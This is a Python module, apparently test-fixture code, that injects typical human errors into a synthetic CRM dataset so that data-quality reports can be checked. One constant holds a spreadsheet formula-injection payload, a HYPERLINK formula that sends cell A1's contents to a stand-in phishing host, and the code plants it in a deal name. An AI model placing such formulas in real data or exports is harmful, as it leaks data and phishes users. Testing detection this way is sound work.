"""The mistakes that people make in a CRM, sprinkled over a clean company. Data-quality reports must find them."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from random import Random

from connector.sandbox.company.deals import Deal
from connector.sandbox.company.facts import LOST, MISSPELT, OPEN_STAGES, WON
from connector.sandbox.company.leads import Lead, came_again, sent_twice
from connector.sandbox.company.world import World

FORMULA_NAME = '=HYPERLINK("http://phishing.example/?x="&A1,"Click here for the quote")'
TEST_DEALS = ("TEST deal - please ignore", "test test", "Test 123")
TEST_LEADS = ("Test Test", "test", "Prueba Test", "asdf asdf", "TEST Lead")
WRONG_SOURCE = "Linked-In ads"
OVERDUE_SHARE = 0.12
DOUBLE_SUBMISSIONS = 18
SECOND_ENQUIRIES = 37
MISSPELT_SHARE = 0.03


def soil(world: World) -> None:
    """Put every kind of mistake into the records of the world."""
    _soil_lines(world.random("dirt lines"), world)
    _soil_deals(world.random("dirt deals"), world)
    _soil_leads(world.random("dirt leads"), world)
    _soil_accounts(world.random("dirt accounts"), world)
    _soil_contacts(world.random("dirt contacts"), world)


def _soil_lines(rng: Random, world: World) -> None:
    for deal in world.deals:
        if rng.random() < 0.14:
            deal.lines = []
        elif len(deal.lines) > 1 and rng.random() < 0.07:
            deal.lines.pop()
    lines = [line for deal in world.deals for line in deal.lines]
    hard = [line for line in lines if line.product.name in MISSPELT]
    for line in rng.sample(hard, round(MISSPELT_SHARE * len(lines))):
        line.product_name = MISSPELT[line.product.name]


def _soil_deals(rng: Random, world: World) -> None:
    """Each deal gets at most one of the mistakes about owner, amount, name and close; sources are apart."""
    pool = list(world.deals)
    rng.shuffle(pool)

    def take(count: int, fits: Callable[[Deal], bool]) -> list[Deal]:
        chosen = [deal for deal in pool if fits(deal)][:count]
        pool[:] = [deal for deal in pool if not any(deal is other for other in chosen)]
        return chosen

    def early(deal: Deal) -> bool:
        return deal.is_open and not deal.is_spanish and deal.stage in OPEN_STAGES[:2]

    for name, deal in zip(TEST_DEALS, take(len(TEST_DEALS), early), strict=True):
        deal.name, deal.amount, deal.lines = name, 100, []
        _rewrite_log(deal)
    for deal in take(1, lambda deal: deal.is_open and not deal.is_spanish and deal.lines != []):
        deal.name = FORMULA_NAME
    for deal in take(4, lambda deal: deal.stage is WON and not deal.is_spanish):
        deal.closed_at = deal.created_at - timedelta(days=rng.randrange(2, 7))
        deal.expected_close, deal.is_logged = deal.closed_at.date(), False
    open_count = sum(deal.is_open for deal in world.deals)
    for deal in [*take(round(open_count * 0.06), lambda deal: deal.is_open), *take(9, lambda deal: deal.stage is LOST)]:
        deal.amount, deal.lines = None, []
        _rewrite_log(deal)
    for deal in [*take(5, lambda deal: deal.is_open), *take(9, lambda deal: deal.stage is LOST)]:
        deal.amount, deal.lines = 0, []
        _rewrite_log(deal)
    for deal in [*take(6, lambda deal: deal.is_open), *take(16, lambda deal: not deal.is_open)]:
        deal.owner = None
    _postpone(rng, world, open_count)
    _blank_words(rng, world)


def _rewrite_log(deal: Deal) -> None:
    for visit in deal.visits:
        visit.amount = deal.amount


def _postpone(rng: Random, world: World, open_count: int) -> None:
    """Leave the expected close of some open deals in the past."""
    today = world.clock.today
    old = [deal for deal in world.deals if deal.is_open and (today - deal.created_at.date()).days > 12]
    for deal in rng.sample(old, round(open_count * OVERDUE_SHARE)):
        oldest = (today - deal.created_at.date()).days - 1
        deal.expected_close = today - timedelta(days=rng.randrange(3, min(80, oldest) + 1))


def _blank_words(rng: Random, world: World) -> None:
    picked = rng.sample([deal for deal in world.deals if not deal.is_spanish], 90)
    for place, deal in enumerate(picked):
        if place < 50:
            deal.source, deal.campaign_id = ("", "N/A", "-", "   ", "n/a")[place % 5], ""
        elif place < 56:
            deal.source = WRONG_SOURCE
        else:
            deal.months = ("", "n/a")[place % 2]


def _soil_leads(rng: Random, world: World) -> None:
    fresh = [lead for lead in world.leads if lead.deal is None]
    for lead in rng.sample(fresh, len(fresh) // 25):
        lead.owner = None
    for place, lead in enumerate(rng.sample(fresh, len(fresh) // 12)):
        if place % 3 == 0:
            lead.email = ""
        elif place % 3 == 1:
            lead.phone = "N/A"
        else:
            lead.source, lead.campaign_id = ("N/A", "")[place % 2], ""
    for number, (name, lead) in enumerate(zip(TEST_LEADS, rng.sample(fresh, len(TEST_LEADS)), strict=True)):
        lead.name, lead.company, lead.email = name, "test", f"test{number}@test.example"
    _double_leads(rng, world)


def _double_leads(rng: Random, world: World) -> None:
    """Add leads whose form was sent twice, and people who came again weeks later."""
    month = timedelta(days=30)
    known = [lead for lead in world.leads if lead.form and lead.email and lead.created_at < world.as_of - 2 * month]
    picked = rng.sample(known, DOUBLE_SUBMISSIONS + SECOND_ENQUIRIES)
    added: list[Lead] = []
    for place, lead in enumerate(picked):
        number = f"L{30_001 + place}"
        if place < DOUBLE_SUBMISSIONS:
            added.append(sent_twice(lead, number, rng.randrange(1, 9)))
        else:
            later = lead.created_at + timedelta(days=rng.randrange(12, 55), seconds=rng.randrange(80_000))
            added.append(came_again(lead, number, later, "guide" if lead.form != "guide" else "contact"))
    world.leads += added


def _soil_accounts(rng: Random, world: World) -> None:
    for account in world.accounts:
        country = account.team.country
        if rng.random() < 0.14:
            account.country = rng.choice(country.spellings)
    picked = rng.sample(world.accounts, 30)
    for place, account in enumerate(picked):
        if place < 6:
            account.country = account.team.country.unknown
        elif place < 12:
            account.owner = None
        else:
            account.industry = ("N/A", "", "unknown")[place % 3]


def _soil_contacts(rng: Random, world: World) -> None:
    picked = rng.sample(world.contacts, 120)
    for place, contact in enumerate(picked):
        if place < 2 and contact.account.team.country.code != "KZ":
            contact.name, contact.email = "Test Test", f"test{place}@test.example"
        elif place % 3 == 0:
            contact.email = ""
        elif place % 3 == 1:
            contact.phone = ("N/A", "-")[place % 2]
        else:
            contact.job_title = ""
